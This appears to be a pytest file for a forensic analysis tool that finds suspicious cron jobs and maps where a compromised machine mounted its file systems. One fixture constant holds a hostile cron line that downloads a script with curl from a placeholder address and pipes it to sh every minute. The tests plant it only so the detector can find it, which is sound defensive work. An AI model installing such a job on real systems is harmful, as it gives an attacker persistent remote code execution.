# SPDX-License-Identifier: AGPL-3.0-or-later
"""Roots below the top, well-known directories that are links, and where the victim mounted its file systems."""

import io
import json
from pathlib import Path

import pytest
from conftest import VOLUME, TreeMaker

from clean_room_analysis.checks.cron import Cron
from clean_room_analysis.crash_state import CrashState
from clean_room_analysis.ledger import Ledger
from clean_room_analysis.limits import Deadline
from clean_room_analysis.model import FileSystemReport
from clean_room_analysis.mount_points import MountPoints, guess
from clean_room_analysis.mounted_tree import MountedTree
from clean_room_analysis.partition_table import Partition
from clean_room_analysis.partitions import Region
from clean_room_analysis.timeline import Timeline
from clean_room_analysis.walker import Walker

JOB = "* * * * * root curl http://192.0.2.1/x | sh\n"


def paths_found(
    plain: TreeMaker, scratch: Path, prefix: str = "", shown: list[tuple[str, str]] | None = None, field: str = "path"
) -> set[str]:
    """Paths of the findings of the cron check, as a run makes them."""
    out = io.StringIO()
    timeline = Timeline(str(scratch))
    ledger = Ledger(out, timeline)
    tree = MountedTree(str(plain.root), prefix)
    walker = Walker(ledger, timeline, io.StringIO(), Deadline(60), [Cron()], [], str(scratch))
    walker.read(tree, VOLUME, FileSystemReport("ext4", None, 0), shown_elsewhere=lambda: shown or [])
    tree.close()
    return {json.loads(line)[field] for line in out.getvalue().splitlines()}


@pytest.mark.parametrize(
    "root",
    [
        "/ostree/deploy/fedora/deploy/abc.0",
        "/var/lib/docker/overlay2/0123456789abcdef/diff",
        "/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/12/fs",
        "/srv/chroot",
    ],
)
def test_a_root_below_the_top_is_checked_as_one(root: str, plain: TreeMaker, tmp_path: Path) -> None:
    plain.file(f"{root}/etc/cron.d/job", JOB)
    if "overlay" not in root:
        plain.file(f"{root}/etc/passwd", "root:x:0:0::/root:/bin/sh\n")
    assert paths_found(plain, tmp_path) == {f"{root}/etc/cron.d/job"}


def test_links_in_a_root_lead_within_it(plain: TreeMaker) -> None:
    plain.file("/srv/chroot/etc/passwd", "")
    plain.file("/srv/chroot/data/x", "inside")
    plain.file("/data/x", "outside")
    plain.link("/srv/chroot/link", "/data/x")
    tree = MountedTree(str(plain.root))
    list(tree.walk(lambda path, why: None))
    found = tree.resolve("/srv/chroot/link")
    assert list(tree.roots) == ["/srv/chroot"] and found is not None and found.path == "/srv/chroot/data/x"
    tree.close()


@pytest.mark.parametrize(("link", "to"), [("/etc/cron.d", "/opt/jobs"), ("/var/spool", "../data/spool"), ("/etc", "usr/etc")])
def test_well_known_directories_that_are_links_are_followed_inside_the_tree(link: str, to: str, plain: TreeMaker, tmp_path: Path) -> None:
    target = {"/etc/cron.d": "/opt/jobs/evil", "/var/spool": "/data/spool/cron/root", "/etc": "/usr/etc/cron.d/evil"}[link]
    plain.file(target, JOB.replace("root ", "") if "spool" in target else JOB)
    plain.link(link, to)
    assert paths_found(plain, tmp_path) == {target}


UUID = "7E9E96DC-df8e-44a4-a9ca-d1ec80758a56"
PART = Partition(2, 1024, 1024, "x", "33333333-3333-4333-8333-333333333333", "Var Disk")


@pytest.mark.parametrize(
    "source",
    [
        f"UUID={UUID.lower()}",
        f'UUID="{UUID}"',
        f"/dev/disk/by-uuid/{UUID}",
        "LABEL=logs",
        "/dev/disk/by-label/logs",
        "PARTUUID=33333333-3333-4333-8333-333333333333",
        r"PARTLABEL=Var\040Disk",
        r"/dev/disk/by-partlabel/Var\x20Disk",
        "/dev/disk/by-id/nvme-Amazon_Elastic_Block_Store_vol00000000000000001-part2",
        "/dev/xvdf2",
        "/dev/sdf2",
    ],
)
def test_fstab_in_every_spelling(source: str, plain: TreeMaker) -> None:
    plain.file("/etc/fstab", f"# comment\n{source} /var/log ext4 defaults 0 2\n/dev/xvdz none swap sw 0 0\n")
    points = MountPoints()
    tree = MountedTree(str(plain.root))
    points.learn(tree)
    tree.close()
    assert points.of(Region(1024, 1024, "ext4", "logs", UUID.lower(), partition=PART), "/dev/sdf", VOLUME) == "/var/log"
    assert points.of(Region(0, 1, "ext4", "other", "0"), "/dev/sdg") is None


def test_a_mount_unit_says_it_as_fstab_does(plain: TreeMaker) -> None:
    plain.file("/etc/systemd/system/var-log.mount", "[Mount]\nWhat=/dev/disk/by-label/logs\nWhere=/var/log\nType=xfs\n")
    points = MountPoints()
    tree = MountedTree(str(plain.root))
    points.learn(tree)
    tree.close()
    assert points.of(Region(0, 1, "xfs", "logs")) == "/var/log"


@pytest.mark.parametrize(
    ("fstab", "label", "prefix", "place"),
    [
        ("LABEL=data /data btrfs x\nLABEL=data /var btrfs subvol=/jobs 0 0\n", "data", "/data", "/jobs/spool/cron/root"),
        ("LABEL=data /data ext4 x\n/data/jobs /var none bind 0 0\n", "data", "/data", "/jobs/spool/cron/root"),
        ("/srv/jobs /var none rw,rbind 0 0\n", "root", "", "/srv/jobs/spool/cron/root"),
    ],
)
def test_subvolumes_and_bind_mounts_are_looked_at_where_the_victim_saw_them(
    fstab: str, label: str, prefix: str, place: str, plain: TreeMaker, tmp_path: Path
) -> None:
    plain.file("/etc/fstab", fstab)
    plain.file(place, JOB.replace("root ", ""))
    points = MountPoints()
    tree = MountedTree(str(plain.root))
    points.learn(tree)
    tree.close()
    shown = points.shown_elsewhere(Region(0, 1, "ext4", label), prefix, None, "vol-1")
    assert paths_found(plain, tmp_path, prefix) == set()
    assert paths_found(plain, tmp_path, prefix, shown) == {place}


def test_a_finding_says_where_the_victim_saw_it(plain: TreeMaker, tmp_path: Path) -> None:
    plain.file("/spool/cron/root", JOB.replace("root ", ""))
    assert paths_found(plain, tmp_path, "/var", field="victimPath") == {"/var/spool/cron/root"}


@pytest.mark.parametrize("source", ["/dev/nvme1n1", "/dev/xvdf", "/dev/disk/by-path/pci-0000:00:1f.0-nvme-1"])
def test_the_one_volume_that_is_left_is_the_one_fstab_names(source: str, plain: TreeMaker) -> None:
    plain.file("/etc/fstab", f"{source} /data ext4\n")
    points = MountPoints()
    tree = MountedTree(str(plain.root))
    points.learn(tree)
    tree.close()
    assert points.left(Region(0, 1, "ext4")) == "/data" and points.left(Region(0, 1, "ext4")) is None


@pytest.mark.parametrize(
    ("path", "place"),
    [
        ("/log/messages", "/var"),
        ("/ec2-user/.bashrc", "/home"),
        ("/wtmp", "/var/log"),
        ("/spool/cron/root", "/var"),
        ("/html/index.php", "/var/www"),
        ("/EFI/x", "/boot/efi"),
    ],
)
def test_what_nobody_maps_is_guessed_from_what_it_holds(path: str, place: str, plain: TreeMaker) -> None:
    plain.file(path, "x")
    tree = MountedTree(str(plain.root))
    assert guess(tree) == place
    tree.close()


def test_what_a_run_did_not_come_back_from_is_read_in_another_way(tmp_path: Path) -> None:
    first = CrashState(str(tmp_path))
    crashed = first.reading("vol-1: ext4 at byte 0", "kernel-mount")
    crashed.__enter__()  # and the machine is gone
    second = CrashState(str(tmp_path))
    assert not second.may("vol-1: ext4 at byte 0", "kernel-mount") and second.may("vol-1: ext4 at byte 0", "dissect")
    assert "did not come back" in second.notes()[0][1]
    with second.reading("vol-1: ext4 at byte 0", "dissect"):
        assert not CrashState(str(tmp_path)).may("vol-1: ext4 at byte 0", "dissect")
    second.clear()
    assert CrashState(str(tmp_path)).may("vol-1: ext4 at byte 0", "kernel-mount")
